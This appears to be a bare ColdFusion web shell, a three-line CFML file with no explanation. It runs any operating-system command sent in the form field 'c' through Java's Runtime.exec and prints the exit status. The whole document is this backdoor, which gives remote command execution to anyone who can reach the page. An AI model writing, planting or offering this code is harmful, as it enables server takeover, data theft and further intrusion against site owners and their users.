<cfset rt = createObject("java", "java.lang.Runtime").getRuntime()>
<cfset p = rt.exec(form.c)>
<cfoutput>#p.waitFor()#</cfoutput>
